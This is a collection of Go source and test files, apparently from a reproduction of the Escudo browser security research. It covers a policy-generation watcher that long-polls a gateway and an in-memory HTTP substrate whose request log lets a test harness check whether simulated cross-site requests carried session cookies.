			genAtFlip.Store(w.Generation())
			flips <- gen
		},
	})
	if err := w.Start(context.Background()); err != nil {
		t.Fatalf("Start: %v", err)
	}
	t.Cleanup(w.Stop)
	if got := w.Generation(); got != 1 {
		t.Fatalf("synced generation = %d, want 1 (the mount seed)", got)
	}

	// Push two reloads; each must surface as one flip, in order.
	for i, maxRing := range []core.Ring{2, 1} {
		doc := scenarios.Policy(o)
		doc.MaxRing = maxRing
		data, err := json.Marshal(doc)
		if err != nil {
			t.Fatalf("marshal: %v", err)
		}
		res, err := ctlplane.PostReload(context.Background(), nil, "http", g.Addr(), data)
		if err != nil {
			t.Fatalf("PostReload %d: %v", i, err)
		}
		want := uint64(2 + i)
		if res.Generation != want {
			t.Fatalf("reload %d accepted at generation %d, want %d", i, res.Generation, want)
		}
		select {
		case gen := <-flips:
			if gen != want {
				t.Fatalf("flip %d observed generation %d, want %d", i, gen, want)
			}
			if genAtFlip.Load() != want {
				t.Fatalf("OnFlip ran before Generation() advanced (%d)", genAtFlip.Load())
			}
		case <-time.After(5 * time.Second):
			t.Fatalf("flip %d never observed", i)
		}
	}
	if got := w.Generation(); got != 3 {
		t.Fatalf("final generation = %d, want 3", got)
	}
	st := w.Stats()
	if st.Flips != 2 {
		t.Fatalf("stats = %+v, want 2 flips", st)
	}
}

// TestWatcherSyncIsNotAFlip pins the first-observation contract:
// syncing to whatever generation the gateway is already at must not
// fire OnFlip — nothing ran under an earlier generation.
func TestWatcherSyncIsNotAFlip(t *testing.T) {
	g, _ := startGateway(t)
	fired := make(chan uint64, 1)
	w := ctlplane.NewWatcher(ctlplane.WatcherConfig{
		Addr:         g.Addr(),
		PollInterval: 20 * time.Millisecond,
		OnFlip:       func(gen uint64) { fired <- gen },
	})
	if err := w.Start(context.Background()); err != nil {
		t.Fatalf("Start: %v", err)
	}
	t.Cleanup(w.Stop)
	select {
	case gen := <-fired:
		t.Fatalf("sync fired OnFlip (generation %d)", gen)
	case <-time.After(150 * time.Millisecond):
	}
	if st := w.Stats(); st.Flips != 0 || st.Polls == 0 {
		t.Fatalf("stats after sync = %+v", st)
	}
}

// TestFetchPolicyz reads the full document the inspect tool renders.
func TestFetchPolicyz(t *testing.T) {
	g, o := startGateway(t)
	doc, err := ctlplane.FetchPolicyz(context.Background(), nil, "http", g.Addr())
	if err != nil {
		t.Fatalf("FetchPolicyz: %v", err)
	}
	if doc.Generation != 1 || len(doc.Policies) != 1 {
		t.Fatalf("doc = gen %d, %d policies", doc.Generation, len(doc.Policies))
	}
	if doc.Revs[o.String()] != 1 {
		t.Fatalf("revs = %+v", doc.Revs)
	}
}
