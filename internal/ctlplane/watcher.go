package ctlplane

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"sync"
	"sync/atomic"
	"time"
)

// PolicyzDoc mirrors the gateway's /policyz JSON document: the fleet
// generation plus the per-origin document versions. The full documents
// travel too (the Policies map), but the watcher only needs the
// generation; escudo-inspect renders the rest.
type PolicyzDoc struct {
	Generation uint64                     `json:"generation"`
	Policies   map[string]json.RawMessage `json:"policies"`
	Revs       map[string]uint64          `json:"revs,omitempty"`
}

// WatcherConfig wires a Watcher to one gateway's admin plane.
type WatcherConfig struct {
	// Addr is the gateway's admin host:port (the listener address).
	Addr string
	// Scheme is "http" or "https"; empty means http.
	Scheme string
	// Client performs the polls; nil uses a default with a timeout
	// slightly above the long-poll hold (the request must outlive it).
	Client *http.Client
	// HoldFor is how long the gateway is asked to park a long poll
	// before answering "unchanged"; 0 means 10s.
	HoldFor time.Duration
	// PollInterval is the fallback cadence against gateways that answer
	// ?wait immediately (or on transport errors); 0 means 250ms.
	PollInterval time.Duration
	// OnFlip, when set, runs on the watcher goroutine after each
	// observed generation bump (cache invalidation, MonitorFactory
	// rebuilds). The published Generation() is advanced before OnFlip
	// runs, so new page loads during the callback already pin the new
	// generation.
	OnFlip func(gen uint64)
}

// WatcherStats counts the subscription's wire activity.
type WatcherStats struct {
	// Polls is the number of /policyz fetches issued.
	Polls uint64 `json:"polls"`
	// Flips is the number of generation bumps observed.
	Flips uint64 `json:"flips"`
	// Errors counts failed fetches (the watcher backs off and retries;
	// the last known generation stays published).
	Errors uint64 `json:"errors"`
}

// Watcher subscribes to one gateway's policy generation: it long-polls
// /policyz?wait=gen, republishes the observed generation through an
// atomic (sessions read Generation() once per page load), and fires
// OnFlip per bump. The propagation contract is deliberately eventual:
// until the watcher observes a flip, its consumers keep running —
// correctly — under the generation they last saw.
type Watcher struct {
	cfg    WatcherConfig
	gen    atomic.Uint64
	synced atomic.Bool
	base   string

	polls  atomic.Uint64
	flips  atomic.Uint64
	errors atomic.Uint64

	cancel context.CancelFunc
	done   chan struct{}
	once   sync.Once
}

// NewWatcher builds a watcher; call Start to begin polling.
func NewWatcher(cfg WatcherConfig) *Watcher {
	if cfg.Scheme == "" {
		cfg.Scheme = "http"
	}
	if cfg.HoldFor <= 0 {
		cfg.HoldFor = 10 * time.Second
	}
	if cfg.PollInterval <= 0 {
		cfg.PollInterval = 250 * time.Millisecond
	}
	if cfg.Client == nil {
		cfg.Client = &http.Client{Timeout: cfg.HoldFor + 5*time.Second}
	}
	return &Watcher{cfg: cfg, base: cfg.Scheme + "://" + cfg.Addr + "/policyz"}
}

// Generation returns the last generation observed from the gateway —
// what a session pins at page-load time.
func (w *Watcher) Generation() uint64 { return w.gen.Load() }

// Stats snapshots the poll counters.
func (w *Watcher) Stats() WatcherStats {
	return WatcherStats{Polls: w.polls.Load(), Flips: w.flips.Load(), Errors: w.errors.Load()}
}

// fetch performs one poll. wait>0 asks the gateway to park the request
// until its generation exceeds wait (bounded by HoldFor).
func (w *Watcher) fetch(ctx context.Context, wait uint64) (uint64, error) {
	u := w.base
	if wait > 0 {
		u += "?wait=" + fmt.Sprint(wait) + "&timeout=" + fmt.Sprint(w.cfg.HoldFor.Milliseconds())
	}
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, u, nil)
	if err != nil {
		return 0, err
	}
	w.polls.Add(1)
	resp, err := w.cfg.Client.Do(req)
	if err != nil {
		return 0, err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return 0, fmt.Errorf("ctlplane: %s answered %d", u, resp.StatusCode)
	}
	var doc PolicyzDoc
	if err := json.NewDecoder(resp.Body).Decode(&doc); err != nil {
		return 0, fmt.Errorf("ctlplane: decoding /policyz: %w", err)
	}
	return doc.Generation, nil
}

// Sync performs one synchronous poll and publishes the result; Start
// calls it first so consumers see the gateway's current generation
// before any load is generated.
func (w *Watcher) Sync(ctx context.Context) (uint64, error) {
	gen, err := w.fetch(ctx, 0)
	if err != nil {
		w.errors.Add(1)
		return w.gen.Load(), err
	}
	w.publish(gen)
	return gen, nil
}

// publish advances the observed generation and fires OnFlip once per
// bump. The very first observation is a sync, not a flip — nothing ran
// under an earlier generation, so there is nothing to invalidate.
func (w *Watcher) publish(gen uint64) {
	first := w.synced.CompareAndSwap(false, true)
	if gen <= w.gen.Load() && !first {
		return
	}
	w.gen.Store(gen)
	if !first {
		w.flips.Add(1)
		if w.cfg.OnFlip != nil {
			w.cfg.OnFlip(gen)
		}
	}
}

// Start syncs once, then long-polls on a background goroutine until
// Stop. The long poll is self-pacing — the gateway parks unchanged
// polls for HoldFor — so the fallback sleep only engages when answers
// come back immediately (older gateway, error).
func (w *Watcher) Start(ctx context.Context) error {
	ctx, cancel := context.WithCancel(ctx)
	w.cancel = cancel
	w.done = make(chan struct{})
	if _, err := w.Sync(ctx); err != nil {
		cancel()
		close(w.done)
		return err
	}
	go w.loop(ctx)
	return nil
}

func (w *Watcher) loop(ctx context.Context) {
	defer close(w.done)
	for {
		if ctx.Err() != nil {
			return
		}
		start := time.Now()
		gen, err := w.fetch(ctx, w.gen.Load())
		if err != nil {
			if ctx.Err() != nil {
				return
			}
			w.errors.Add(1)
		} else {
			w.publish(gen)
		}
		// Long polls that parked for a while may fire again right away;
		// instant answers (gateway without ?wait support, errors) fall
		// back to the periodic cadence.
		if time.Since(start) < w.cfg.PollInterval {
			select {
			case <-time.After(w.cfg.PollInterval):
			case <-ctx.Done():
				return
			}
		}
	}
}

// Stop cancels the poll loop and waits for it to exit.
func (w *Watcher) Stop() {
	w.once.Do(func() {
		if w.cancel != nil {
			w.cancel()
			<-w.done
		}
	})
}

// ReloadResult is the gateway's answer to POST /policyz/reload.
type ReloadResult struct {
	Origin     string `json:"origin"`
	Generation uint64 `json:"generation"`
	Rev        uint64 `json:"rev"`
}

// PostReload pushes a policy document to a gateway's admin
// POST /policyz/reload and returns the accepted generation. It is the
// fleet-push client half: escudo-serve's control section and
// escudo-inspect both drive flips through it.
func PostReload(ctx context.Context, client *http.Client, scheme, addr string, doc []byte) (ReloadResult, error) {
	var res ReloadResult
	if client == nil {
		client = &http.Client{Timeout: 10 * time.Second}
	}
	if scheme == "" {
		scheme = "http"
	}
	u := scheme + "://" + addr + "/policyz/reload"
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, u, bytes.NewReader(doc))
	if err != nil {
		return res, err
	}
	req.Header.Set("Content-Type", "application/json")
	resp, err := client.Do(req)
	if err != nil {
		return res, err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		var e struct {
			Error string `json:"error"`
		}
		_ = json.NewDecoder(resp.Body).Decode(&e)
		if e.Error != "" {
			return res, fmt.Errorf("ctlplane: reload rejected (%d): %s", resp.StatusCode, e.Error)
		}
		return res, fmt.Errorf("ctlplane: %s answered %d", u, resp.StatusCode)
	}
	if err := json.NewDecoder(resp.Body).Decode(&res); err != nil {
		return res, fmt.Errorf("ctlplane: decoding reload result: %w", err)
	}
	return res, nil
}

// FetchPolicyz reads a gateway's /policyz document once.
func FetchPolicyz(ctx context.Context, client *http.Client, scheme, addr string) (PolicyzDoc, error) {
	return fetchPolicyzDoc(ctx, client, scheme, addr, 0, 0)
}

// FetchPolicyzWait long-polls /policyz: the gateway parks the request
// up to hold until its generation exceeds after, then answers with
// the full document (the unchanged document, if the hold expires).
// The streaming half of escudo-inspect -policyz -watch.
func FetchPolicyzWait(ctx context.Context, client *http.Client, scheme, addr string, after uint64, hold time.Duration) (PolicyzDoc, error) {
	if client == nil {
		client = &http.Client{Timeout: hold + 5*time.Second}
	}
	return fetchPolicyzDoc(ctx, client, scheme, addr, after, hold)
}

func fetchPolicyzDoc(ctx context.Context, client *http.Client, scheme, addr string, after uint64, hold time.Duration) (PolicyzDoc, error) {
	var doc PolicyzDoc
	if client == nil {
		client = &http.Client{Timeout: 10 * time.Second}
	}
	if scheme == "" {
		scheme = "http"
	}
	u := scheme + "://" + addr + "/policyz"
	if after > 0 {
		u += "?wait=" + fmt.Sprint(after) + "&timeout=" + fmt.Sprint(hold.Milliseconds())
	}
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, u, nil)
	if err != nil {
		return doc, err
	}
	resp, err := client.Do(req)
	if err != nil {
		return doc, err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return doc, fmt.Errorf("ctlplane: %s answered %d", u, resp.StatusCode)
	}
	if err := json.NewDecoder(resp.Body).Decode(&doc); err != nil {
		return doc, fmt.Errorf("ctlplane: decoding /policyz: %w", err)
	}
	return doc, nil
}
