package web

import (
	"errors"
	"net/url"
	"testing"

	"repro/internal/origin"
)

var (
	forum = origin.MustParse("http://forum.example")
	evil  = origin.MustParse("http://evil.example")
)

func TestHeaderCanonicalization(t *testing.T) {
	h := Header{}
	h.Add("x-escudo-maxring", "3")
	if got := h.Get("X-Escudo-Maxring"); got != "3" {
		t.Errorf("Get = %q", got)
	}
	if got := h.Get("X-ESCUDO-MAXRING"); got != "3" {
		t.Errorf("case-insensitive Get = %q", got)
	}
	h.Add("X-Escudo-Cookie", "a; ring=1")
	h.Add("X-Escudo-Cookie", "b; ring=2")
	if got := len(h.Values("x-escudo-cookie")); got != 2 {
		t.Errorf("Values len = %d", got)
	}
	h.Set("X-Escudo-Cookie", "only")
	if got := len(h.Values("x-escudo-cookie")); got != 1 {
		t.Errorf("after Set, Values len = %d", got)
	}
}

func TestCanonicalKey(t *testing.T) {
	tests := []struct{ in, want string }{
		{"content-type", "Content-Type"},
		{"SET-COOKIE", "Set-Cookie"},
		{"x-escudo-api", "X-Escudo-Api"},
		{"cookie", "Cookie"},
	}
	for _, tt := range tests {
		if got := CanonicalKey(tt.in); got != tt.want {
			t.Errorf("CanonicalKey(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestHeaderClone(t *testing.T) {
	h := Header{}
	h.Add("A", "1")
	c := h.Clone()
	c.Add("A", "2")
	if len(h.Values("A")) != 1 {
		t.Error("clone shares storage with original")
	}
}

func TestRequestHelpers(t *testing.T) {
	r := NewRequest("GET", "http://forum.example/viewtopic.php?t=42&p=1")
	tgt, err := r.TargetOrigin()
	if err != nil || tgt != forum {
		t.Errorf("TargetOrigin = %v, %v", tgt, err)
	}
	if r.Path() != "/viewtopic.php" {
		t.Errorf("Path = %q", r.Path())
	}
	if r.Query().Get("t") != "42" {
		t.Errorf("Query t = %q", r.Query().Get("t"))
	}
	r.Header.Set("Cookie", "sid=abc; data=xyz")
	if v, ok := r.Cookie("sid"); !ok || v != "abc" {
		t.Errorf("Cookie(sid) = %q, %v", v, ok)
	}
	if _, ok := r.Cookie("missing"); ok {
		t.Error("missing cookie reported present")
	}
}

func TestRequestPathDefaults(t *testing.T) {
	r := NewRequest("GET", "http://forum.example")
	if r.Path() != "/" {
		t.Errorf("empty path = %q, want /", r.Path())
	}
}

func TestNetworkRoundTrip(t *testing.T) {
	n := NewNetwork()
	n.Register(forum, HandlerFunc(func(req *Request) *Response {
		if req.Path() == "/hello" {
			return HTML("<p>hi</p>")
		}
		return NotFound()
	}))
	resp, err := n.RoundTrip(NewRequest("GET", "http://forum.example/hello"))
	if err != nil {
		t.Fatal(err)
	}
	if resp.Status != 200 || resp.Body != "<p>hi</p>" {
		t.Errorf("resp = %+v", resp)
	}
	resp, err = n.RoundTrip(NewRequest("GET", "http://forum.example/none"))
	if err != nil || resp.Status != 404 {
		t.Errorf("missing path: %+v, %v", resp, err)
	}
}

func TestNetworkNoServer(t *testing.T) {
	n := NewNetwork()
	_, err := n.RoundTrip(NewRequest("GET", "http://nowhere.example/"))
	if !errors.Is(err, ErrNoServer) {
		t.Errorf("err = %v, want ErrNoServer", err)
	}
	// The attempt is still logged.
	if len(n.Log()) != 1 || n.Log()[0].Status != 502 {
		t.Errorf("log = %v", n.Log())
	}
}

func TestNetworkBadURL(t *testing.T) {
	n := NewNetwork()
	if _, err := n.RoundTrip(NewRequest("GET", "/relative")); err == nil {
		t.Error("relative URL must fail routing")
	}
}

func TestNetworkLog(t *testing.T) {
	n := NewNetwork()
	n.Register(forum, HandlerFunc(func(req *Request) *Response { return HTML("ok") }))

	req := NewRequest("POST", "http://forum.example/posting.php")
	req.Header.Set("Cookie", "phpbb2mysql_sid=s1")
	req.Form = url.Values{"subject": {"hi"}}
	req.InitiatorOrigin = evil
	req.InitiatorLabel = "form#csrf"
	if _, err := n.RoundTrip(req); err != nil {
		t.Fatal(err)
	}

	entries := n.FindRequests(forum, func(e LogEntry) bool { return e.Path == "/posting.php" })
	if len(entries) != 1 {
		t.Fatalf("entries = %v", entries)
	}
	e := entries[0]
	if !e.HasCookie("phpbb2mysql_sid") {
		t.Error("cookie not recorded")
	}
	if e.HasCookie("absent") {
		t.Error("phantom cookie")
	}
	if e.InitiatorOrigin != evil || e.InitiatorLabel != "form#csrf" {
		t.Errorf("initiator = %v %q", e.InitiatorOrigin, e.InitiatorLabel)
	}
	if e.Form.Get("subject") != "hi" {
		t.Errorf("form = %v", e.Form)
	}
	n.ResetLog()
	if len(n.Log()) != 0 {
		t.Error("ResetLog failed")
	}
}

func TestResponseConstructors(t *testing.T) {
	if r := HTML("x"); r.Status != 200 || r.Header.Get("Content-Type") != "text/html" {
		t.Errorf("HTML = %+v", r)
	}
	if r := Redirect("/next"); r.Status != 303 || r.Header.Get("Location") != "/next" {
		t.Errorf("Redirect = %+v", r)
	}
	if r := NotFound(); r.Status != 404 {
		t.Errorf("NotFound = %+v", r)
	}
	if r := Forbidden("no"); r.Status != 403 || r.Body != "no" {
		t.Errorf("Forbidden = %+v", r)
	}
}

func TestNilHandlerResponse(t *testing.T) {
	n := NewNetwork()
	n.Register(forum, HandlerFunc(func(req *Request) *Response { return nil }))
	resp, err := n.RoundTrip(NewRequest("GET", "http://forum.example/"))
	if err != nil || resp.Status != 404 {
		t.Errorf("nil handler response: %+v, %v", resp, err)
	}
}
