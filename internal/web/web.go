// Package web is the in-memory web substrate: HTTP-shaped requests and
// responses routed by origin to registered server applications. It
// replaces the real network + Apache/PHP stack of the paper's testbed
// (see DESIGN.md, substitutions). The network keeps a request log so
// the attack harness can check, for example, whether a forged
// cross-site request arrived carrying the victim's session cookie —
// the §6.4 CSRF verdict.
package web

import (
	"errors"
	"fmt"
	"net/url"
	"strings"
	"sync"

	"repro/internal/origin"
)

// Header is a simplified HTTP header map: canonical-cased keys to
// value lists.
type Header map[string][]string

// CanonicalKey normalizes a header name ("x-escudo-maxring" →
// "X-Escudo-Maxring").
func CanonicalKey(k string) string {
	parts := strings.Split(strings.ToLower(k), "-")
	for i, p := range parts {
		if p == "" {
			continue
		}
		parts[i] = strings.ToUpper(p[:1]) + p[1:]
	}
	return strings.Join(parts, "-")
}

// Add appends a value to the named header.
func (h Header) Add(key, value string) {
	k := CanonicalKey(key)
	h[k] = append(h[k], value)
}

// Set replaces the named header with a single value.
func (h Header) Set(key, value string) {
	h[CanonicalKey(key)] = []string{value}
}

// Get returns the first value of the named header, or "".
func (h Header) Get(key string) string {
	v := h[CanonicalKey(key)]
	if len(v) == 0 {
		return ""
	}
	return v[0]
}

// Values returns all values of the named header.
func (h Header) Values(key string) []string {
	return h[CanonicalKey(key)]
}

// Clone deep-copies the header.
func (h Header) Clone() Header {
	out := make(Header, len(h))
	for k, v := range h {
		out[k] = append([]string(nil), v...)
	}
	return out
}

// Request is one HTTP-shaped request.
type Request struct {
	// Method is "GET" or "POST".
	Method string
	// URL is the absolute target URL.
	URL string
	// Header carries request headers, including Cookie.
	Header Header
	// Form carries POST form fields.
	Form url.Values
	// InitiatorOrigin is the origin of the page whose principal
	// caused the request (the null origin for browser-typed
	// navigations). The attack harness uses it to classify
	// cross-site requests.
	InitiatorOrigin origin.Origin
	// InitiatorLabel describes the principal for the request log,
	// e.g. "img", "form#post", "xhr".
	InitiatorLabel string
}

// NewRequest builds a request with empty header and form.
func NewRequest(method, rawURL string) *Request {
	return &Request{Method: method, URL: rawURL, Header: Header{}, Form: url.Values{}}
}

// TargetOrigin derives the origin of the request's URL.
func (r *Request) TargetOrigin() (origin.Origin, error) {
	return origin.Parse(r.URL)
}

// Path returns the URL path (with a leading slash; "/" for empty).
func (r *Request) Path() string {
	u, err := url.Parse(r.URL)
	if err != nil || u.Path == "" {
		return "/"
	}
	return u.Path
}

// Query returns the parsed query parameters.
func (r *Request) Query() url.Values {
	u, err := url.Parse(r.URL)
	if err != nil {
		return url.Values{}
	}
	return u.Query()
}

// Cookies parses the Cookie header into name→value pairs.
func (r *Request) Cookies() map[string]string {
	out := map[string]string{}
	for _, line := range r.Header.Values("Cookie") {
		for _, part := range strings.Split(line, ";") {
			name, val, ok := strings.Cut(strings.TrimSpace(part), "=")
			if ok && name != "" {
				out[name] = val
			}
		}
	}
	return out
}

// Cookie returns the named cookie value and whether it is present.
func (r *Request) Cookie(name string) (string, bool) {
	v, ok := r.Cookies()[name]
	return v, ok
}

// Response is one HTTP-shaped response.
type Response struct {
	// Status is the HTTP status code.
	Status int
	// Header carries response headers, including Set-Cookie and the
	// X-Escudo-* configuration.
	Header Header
	// Body is the response entity, typically HTML.
	Body string
}

// NewResponse builds an empty 200 response.
func NewResponse() *Response {
	return &Response{Status: 200, Header: Header{}}
}

// HTML builds a 200 text/html response with the given body.
func HTML(body string) *Response {
	resp := NewResponse()
	resp.Header.Set("Content-Type", "text/html")
	resp.Body = body
	return resp
}

// Redirect builds a 303 response to the given location.
func Redirect(location string) *Response {
	resp := NewResponse()
	resp.Status = 303
	resp.Header.Set("Location", location)
	return resp
}

// NotFound builds a 404 response.
func NotFound() *Response {
	resp := NewResponse()
	resp.Status = 404
	resp.Body = "not found"
	return resp
}

// Forbidden builds a 403 response.
func Forbidden(msg string) *Response {
	resp := NewResponse()
	resp.Status = 403
	resp.Body = msg
	return resp
}

// Handler serves requests for one origin.
type Handler interface {
	Serve(req *Request) *Response
}

// HandlerFunc adapts a function to Handler.
type HandlerFunc func(req *Request) *Response

// Serve implements Handler.
func (f HandlerFunc) Serve(req *Request) *Response { return f(req) }

// ErrNoServer reports a request for an unregistered origin.
var ErrNoServer = errors.New("web: no server for origin")

// LogEntry records one routed request for post-hoc analysis.
type LogEntry struct {
	Method          string
	URL             string
	Path            string
	Target          origin.Origin
	InitiatorOrigin origin.Origin
	InitiatorLabel  string
	// CookieNames are the cookies that arrived with the request —
	// the CSRF success signal.
	CookieNames []string
	Form        url.Values
	Status      int
}

// Network routes requests to servers by origin and records a log. It
// is safe for concurrent use.
type Network struct {
	mu      sync.Mutex
	servers map[origin.Origin]Handler
	log     []LogEntry
}

// NewNetwork returns an empty network.
func NewNetwork() *Network {
	return &Network{servers: map[origin.Origin]Handler{}}
}

// Register installs a handler for an origin, replacing any previous
// one.
func (n *Network) Register(o origin.Origin, h Handler) {
	n.mu.Lock()
	defer n.mu.Unlock()
	n.servers[o] = h
}

// RoundTrip routes the request to its target origin's server and
// returns the response. Every routed request is logged, whether or
// not a server exists.
func (n *Network) RoundTrip(req *Request) (*Response, error) {
	target, err := req.TargetOrigin()
	if err != nil {
		return nil, fmt.Errorf("web: routing %q: %w", req.URL, err)
	}
	n.mu.Lock()
	h, ok := n.servers[target]
	n.mu.Unlock()

	entry := LogEntry{
		Method:          req.Method,
		URL:             req.URL,
		Path:            req.Path(),
		Target:          target,
		InitiatorOrigin: req.InitiatorOrigin,
		InitiatorLabel:  req.InitiatorLabel,
		Form:            req.Form,
	}
	for name := range req.Cookies() {
		entry.CookieNames = append(entry.CookieNames, name)
	}

	if !ok {
		entry.Status = 502
		n.appendLog(entry)
		return nil, fmt.Errorf("%w: %s", ErrNoServer, target)
	}
	resp := h.Serve(req)
	if resp == nil {
		resp = NotFound()
	}
	entry.Status = resp.Status
	n.appendLog(entry)
	return resp, nil
}

func (n *Network) appendLog(e LogEntry) {
	n.mu.Lock()
	defer n.mu.Unlock()
	n.log = append(n.log, e)
}

// Log returns a copy of the request log.
func (n *Network) Log() []LogEntry {
	n.mu.Lock()
	defer n.mu.Unlock()
	out := make([]LogEntry, len(n.log))
	copy(out, n.log)
	return out
}

// ResetLog clears the request log (between attack trials).
func (n *Network) ResetLog() {
	n.mu.Lock()
	defer n.mu.Unlock()
	n.log = nil
}

// HasCookie reports whether entry carried the named cookie.
func (e LogEntry) HasCookie(name string) bool {
	for _, c := range e.CookieNames {
		if c == name {
			return true
		}
	}
	return false
}

// FindRequests returns log entries matching the target origin and path
// predicate.
func (n *Network) FindRequests(target origin.Origin, match func(LogEntry) bool) []LogEntry {
	var out []LogEntry
	for _, e := range n.Log() {
		if e.Target == target && (match == nil || match(e)) {
			out = append(out, e)
		}
	}
	return out
}
