// Package web is the in-memory web substrate: HTTP-shaped requests and
// responses routed by origin to registered server applications. It
// replaces the real network + Apache/PHP stack of the paper's testbed
// (see DESIGN.md, substitutions). The network keeps a request log so
// the attack harness can check, for example, whether a forged
// cross-site request arrived carrying the victim's session cookie —
// the §6.4 CSRF verdict.
package web

import (
	"errors"
	"fmt"
	"net/url"
	"sort"
	"strings"
	"sync"
	"sync/atomic"

	"repro/internal/origin"
)

// Header is a simplified HTTP header map: canonical-cased keys to
// value lists.
type Header map[string][]string

// CanonicalKey normalizes a header name ("x-escudo-maxring" →
// "X-Escudo-Maxring"). Header maps are touched on every request and
// response, and callers almost always pass the canonical form
// already, so that case is detected in place and returns the input
// with no allocation.
func CanonicalKey(k string) string {
	if isCanonicalKey(k) {
		return k
	}
	if v, ok := internedKeys[k]; ok {
		return v
	}
	parts := strings.Split(strings.ToLower(k), "-")
	for i, p := range parts {
		if p == "" {
			continue
		}
		parts[i] = strings.ToUpper(p[:1]) + p[1:]
	}
	return strings.Join(parts, "-")
}

// internedKeys maps the lower-case spellings of hot header keys to a
// shared canonical string, so request-path callers that pass the
// wire-typical lower-case form ("set-cookie", "content-type") get the
// interned instance back instead of paying the split/join rebuild on
// every header touch.
var internedKeys = map[string]string{
	"accept":                    "Accept",
	"cache-control":             "Cache-Control",
	"content-type":              "Content-Type",
	"cookie":                    "Cookie",
	"etag":                      "Etag",
	"if-none-match":             "If-None-Match",
	"location":                  "Location",
	"referer":                   "Referer",
	"retry-after":               "Retry-After",
	"set-cookie":                "Set-Cookie",
	"x-escudo-gateway":          "X-Escudo-Gateway",
	"x-escudo-initiator-label":  "X-Escudo-Initiator-Label",
	"x-escudo-initiator-origin": "X-Escudo-Initiator-Origin",
	"x-escudo-maxring":          "X-Escudo-Maxring",
	"x-escudo-orig-keys":        "X-Escudo-Orig-Keys",
	"x-escudo-trace":            "X-Escudo-Trace",
}

// isCanonicalKey reports whether k is already in canonical form: each
// dash-separated part starts with a non-lowercase byte and continues
// with non-uppercase bytes.
func isCanonicalKey(k string) bool {
	first := true
	for i := 0; i < len(k); i++ {
		c := k[i]
		if c == '-' {
			first = true
			continue
		}
		if first {
			if c >= 'a' && c <= 'z' {
				return false
			}
			first = false
		} else if c >= 'A' && c <= 'Z' {
			return false
		}
	}
	return true
}

// Add appends a value to the named header.
func (h Header) Add(key, value string) {
	k := CanonicalKey(key)
	h[k] = append(h[k], value)
}

// Set replaces the named header with a single value.
func (h Header) Set(key, value string) {
	h[CanonicalKey(key)] = []string{value}
}

// Get returns the first value of the named header, or "".
func (h Header) Get(key string) string {
	v := h[CanonicalKey(key)]
	if len(v) == 0 {
		return ""
	}
	return v[0]
}

// Values returns all values of the named header.
func (h Header) Values(key string) []string {
	return h[CanonicalKey(key)]
}

// Clone deep-copies the header.
func (h Header) Clone() Header {
	out := make(Header, len(h))
	for k, v := range h {
		out[k] = append([]string(nil), v...)
	}
	return out
}

// Request is one HTTP-shaped request.
//
// The URL and Cookie header are parsed at most once: TargetOrigin,
// Path, and Query memoize one shared URL parse, and Cookies memoizes
// the Cookie-header parse. The request pipeline reads each of these
// several times per round trip (routing, cookie attachment, logging,
// then the handler), so the memo turns four parses into one. The
// contract is the natural one for a request in flight: URL must not
// change after the first derived accessor runs, and the Cookie header
// must be final before Cookies/Cookie is first called (the browser
// attaches cookies before RoundTrip, which is the first reader).
type Request struct {
	// Method is "GET" or "POST".
	Method string
	// URL is the absolute target URL.
	URL string
	// Header carries request headers, including Cookie.
	Header Header
	// Form carries POST form fields.
	Form url.Values
	// InitiatorOrigin is the origin of the page whose principal
	// caused the request (the null origin for browser-typed
	// navigations). The attack harness uses it to classify
	// cross-site requests.
	InitiatorOrigin origin.Origin
	// InitiatorLabel describes the principal for the request log,
	// e.g. "img", "form#post", "xhr".
	InitiatorLabel string
	// TraceID is the causal trace of the task that issued the request
	// (see internal/obs); it travels as the X-Escudo-Trace header over
	// real transports and into the request log, linking the request to
	// the decisions it triggers. Empty when the task is untraced.
	TraceID string

	urlOnce   sync.Once
	parsedURL *url.URL
	target    origin.Origin
	targetErr error

	queryOnce sync.Once
	query     url.Values

	cookieOnce sync.Once
	cookies    map[string]string
}

// NewRequest builds a request with empty header and form.
func NewRequest(method, rawURL string) *Request {
	return &Request{Method: method, URL: rawURL, Header: Header{}, Form: url.Values{}}
}

// Reset prepares r for reuse from a request pool: the Header map is
// cleared in place and kept, every other field — including the
// memoized URL, query, and cookie parses — is dropped. Form is set to
// nil rather than cleared because the request log may alias the old
// map (LogEntry.Form); a reused request that carries a form gets a
// fresh map. The caller must own r exclusively: Reset while a handler
// or logger still reads r is a race.
func (r *Request) Reset(method, rawURL string) {
	if r.Header == nil {
		r.Header = Header{}
	} else {
		clear(r.Header)
	}
	r.Method = method
	r.URL = rawURL
	r.Form = nil
	r.InitiatorOrigin = origin.Origin{}
	r.InitiatorLabel = ""
	r.TraceID = ""
	r.urlOnce = sync.Once{}
	r.parsedURL = nil
	r.target = origin.Origin{}
	r.targetErr = nil
	r.queryOnce = sync.Once{}
	r.query = nil
	r.cookieOnce = sync.Once{}
	r.cookies = nil
}

// parse runs the one-time URL parse shared by TargetOrigin, Path, and
// Query.
func (r *Request) parse() {
	r.urlOnce.Do(func() {
		r.parsedURL, _ = url.Parse(r.URL)
		r.target, r.targetErr = origin.Parse(r.URL)
	})
}

// TargetOrigin derives the origin of the request's URL.
func (r *Request) TargetOrigin() (origin.Origin, error) {
	r.parse()
	return r.target, r.targetErr
}

// Path returns the URL path (with a leading slash; "/" for empty).
func (r *Request) Path() string {
	r.parse()
	if r.parsedURL == nil || r.parsedURL.Path == "" {
		return "/"
	}
	return r.parsedURL.Path
}

// Query returns the parsed query parameters. The returned values are
// shared across calls; callers must not mutate them.
func (r *Request) Query() url.Values {
	r.parse()
	r.queryOnce.Do(func() {
		if r.parsedURL == nil {
			r.query = url.Values{}
			return
		}
		r.query = r.parsedURL.Query()
	})
	return r.query
}

// Cookies parses the Cookie header into name→value pairs. The map is
// parsed once and shared across calls; callers must not mutate it.
func (r *Request) Cookies() map[string]string {
	r.cookieOnce.Do(func() {
		out := map[string]string{}
		for _, line := range r.Header.Values("Cookie") {
			for _, part := range strings.Split(line, ";") {
				name, val, ok := strings.Cut(strings.TrimSpace(part), "=")
				if ok && name != "" {
					out[name] = val
				}
			}
		}
		r.cookies = out
	})
	return r.cookies
}

